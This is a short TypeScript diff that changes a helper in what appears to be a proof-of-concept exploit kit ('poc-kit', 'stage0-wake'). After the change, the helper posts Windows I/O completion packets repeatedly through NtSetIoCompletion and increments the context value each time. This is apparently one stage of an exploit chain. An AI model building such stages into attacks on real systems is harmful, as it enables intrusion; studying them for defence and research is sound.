@@ -1,7 +1,14 @@
-import { NtSetIoCompletion } from 'ntdllx';
+import { NtSetIoCompletion, STATUS_SUCCESS } from 'ntdllx';
 import { serveHelper } from 'poc-kit';
 import type { WakeTask } from './stage0-wake.js';
 
-serveHelper<WakeTask, number>(({ port, packet }) =>
-  NtSetIoCompletion(port, packet.key, packet.context, packet.status, packet.information),
-);
+// Posts the packet as often as it is told to, counting ApcContext up. Answers the first refusal.
+serveHelper<WakeTask, number>(({ port, packet, count = 1 }) => {
+  for (let index = 0; index < count; index += 1) {
+    const context = packet.context + BigInt(index);
+    const { key, status, information } = packet;
+    const result = NtSetIoCompletion(port, key, context, status, information);
+    if (result !== STATUS_SUCCESS) return result;
+  }
+  return STATUS_SUCCESS;
+});
